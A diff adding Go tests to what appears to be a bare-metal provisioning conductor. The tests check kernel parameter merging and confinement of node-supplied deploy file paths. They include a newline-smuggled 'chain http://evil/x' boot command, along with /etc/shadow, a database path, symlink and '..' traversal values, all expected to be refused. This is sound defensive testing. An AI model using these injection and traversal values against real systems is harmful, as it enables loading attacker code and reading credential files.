@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/rivetmetal/rivet/conductor/errdefs"
+	"github.com/rivetmetal/rivet/conductor/hostpath"
 	"github.com/rivetmetal/rivet/conductor/statemachine"
 	"github.com/rivetmetal/rivet/conductor/store"
 )
@@ -147,5 +148,128 @@ func TestFirmwareRoute(t *testing.T) {
 	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/firmware/snponly.efi", nil))
 	if rec.Code != 200 || rec.Body.String() != "firmware /snponly.efi" {
 		t.Fatalf("GET firmware/snponly.efi = %d %q", rec.Code, rec.Body.String())
+	}
+}
+
+// TestKernelAppendParams: a node's kernel_append_params replace the
+// configured defaults, instance_info before driver_info as in Ironic, with
+// %default% standing for the defaults; a value that is not a string or
+// holds a control character fails the script instead of breaking it.
+func TestKernelAppendParams(t *testing.T) {
+	h, err := New(Config{Nodes: nodes{}, APIURL: "http://10.0.0.1:6385", DeployKernel: "/k", DeployRamdisk: "/r",
+		KernelParams: []string{"nofb", "vga=normal"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const mac = "52:54:00:12:34:56"
+	for _, c := range []struct {
+		name                   string
+		instanceInfo, drvInfo  map[string]any
+		want, notWant, wantErr string
+	}{
+		{name: "defaults", want: " text nofb vga=normal ipa-api-url="},
+		{name: "driver_info replaces", drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"},
+			want: " text console=ttyS0 ipa-api-url=", notWant: "nofb"},
+		{name: "%default% kept", drvInfo: map[string]any{"kernel_append_params": "%default%  console=ttyS0,115200"},
+			want: " text nofb vga=normal console=ttyS0,115200 ipa-api-url="},
+		{name: "instance_info first", instanceInfo: map[string]any{"kernel_append_params": "quiet"},
+			drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"}, want: " text quiet ipa-api-url=", notWant: "ttyS0"},
+		{name: "null skipped", instanceInfo: map[string]any{"kernel_append_params": nil},
+			drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"}, want: " text console=ttyS0 ipa-api-url="},
+		{name: "not a string", drvInfo: map[string]any{"kernel_append_params": 42.0}, wantErr: "not a string"},
+		{name: "newline", drvInfo: map[string]any{"kernel_append_params": "a\nchain http://evil/x"}, wantErr: "control characters"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			n := &store.Node{UUID: "6a5a3c8e-1d2b-4f6e-9a0c-2b7d8e9f0a11", ProvisionState: statemachine.DeployWait,
+				InstanceInfo: c.instanceInfo, DriverInfo: c.drvInfo}
+			s, err := h.Script(n, mac, "http://10.0.0.1:6385/boot")
+			if c.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), c.wantErr) {
+					t.Fatalf("Script = %q, %v; want an error about %s", s, err, c.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(s, c.want) || (c.notWant != "" && strings.Contains(s, c.notWant)) {
+				t.Fatalf("script lacks %q (or has %q):\n%s", c.want, c.notWant, s)
+			}
+		})
+	}
+}
+
+// TestNodeDeployFilesAreConfined: a node's own deploy_kernel or
+// deploy_ramdisk is served only from the allowed directories, as a
+// regular file reached without leaving them; /etc/shadow, the database,
+// /dev/zero and symbolic links out are refused with a 404 and nothing of
+// them is sent. The conductor's own defaults are served wherever they are.
+func TestNodeDeployFilesAreConfined(t *testing.T) {
+	base := t.TempDir()
+	allowed, state := filepath.Join(base, "images"), filepath.Join(base, "state")
+	os.MkdirAll(allowed, 0o750)
+	os.MkdirAll(state, 0o750)
+	db := filepath.Join(state, "rivet.db")
+	os.WriteFile(db, []byte("SQLite format 3 ipmi_password=hunter2"), 0o600)
+	os.WriteFile(filepath.Join(allowed, "kernel"), []byte("NODE-KERNEL"), 0o644)
+	os.Symlink(db, filepath.Join(allowed, "db"))
+	os.Symlink("/etc/shadow", filepath.Join(allowed, "shadow"))
+	os.Link(db, filepath.Join(allowed, "db-hardlink"))
+	defKernel := filepath.Join(state, "default-kernel") // outside the allowed directory: the operator's
+	os.WriteFile(defKernel, []byte("DEFAULT-KERNEL"), 0o644)
+	files, err := hostpath.New(hostpath.Config{Allowed: []string{allowed}, Protected: []string{db}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer files.Close()
+	n := &store.Node{UUID: "6a5a3c8e-1d2b-4f6e-9a0c-2b7d8e9f0a11", ProvisionState: statemachine.DeployWait,
+		DriverInfo: map[string]any{}}
+	h, err := New(Config{Nodes: nodes{"52:54:00:12:34:56": n}, DeployKernel: defKernel, DeployRamdisk: defKernel, Files: files})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(http.StripPrefix("/boot", h))
+	defer srv.Close()
+	url := srv.URL + "/boot/" + n.UUID + "/deploy_kernel"
+	for _, tc := range []struct {
+		value      any
+		status     int
+		body       string
+		noneServed bool
+	}{
+		{nil, 200, "DEFAULT-KERNEL", false},
+		{defKernel, 200, "DEFAULT-KERNEL", false},
+		{filepath.Join(allowed, "kernel"), 200, "NODE-KERNEL", false},
+		{"file://" + filepath.Join(allowed, "kernel"), 200, "NODE-KERNEL", false},
+		{"/etc/shadow", 404, "", true},
+		{"file:///etc/shadow", 404, "", true},
+		{db, 404, "", true},
+		{"/dev/zero", 404, "", true},
+		{filepath.Join(allowed, "db"), 404, "", true},
+		{filepath.Join(allowed, "shadow"), 404, "", true},
+		{filepath.Join(allowed, "db-hardlink"), 404, "", true},
+		{filepath.Join(allowed, "..", "state", "rivet.db"), 404, "", true},
+		{"kernel", 404, "", true},
+	} {
+		if tc.value == nil {
+			delete(n.DriverInfo, "deploy_kernel")
+		} else {
+			n.DriverInfo["deploy_kernel"] = tc.value
+		}
+		st, body := get(t, url)
+		if st != tc.status || (tc.body != "" && body != tc.body) {
+			t.Errorf("deploy_kernel %v: %d %q, want %d %q", tc.value, st, body, tc.status, tc.body)
+		}
+		if tc.noneServed && (strings.Contains(body, "SQLite") || strings.Contains(body, "root:")) {
+			t.Errorf("deploy_kernel %v: served %q", tc.value, body)
+		}
+	}
+	// Without allowed directories a node names no host file at all.
+	h2, _ := New(Config{Nodes: nodes{"52:54:00:12:34:56": n}, DeployKernel: defKernel, DeployRamdisk: defKernel})
+	n.DriverInfo["deploy_kernel"] = filepath.Join(allowed, "kernel")
+	rec := httptest.NewRecorder()
+	h2.ServeHTTP(rec, httptest.NewRequest("GET", "/"+n.UUID+"/deploy_kernel", nil))
+	if rec.Code != 404 {
+		t.Errorf("node file without allowed directories: %d", rec.Code)
 	}
 }
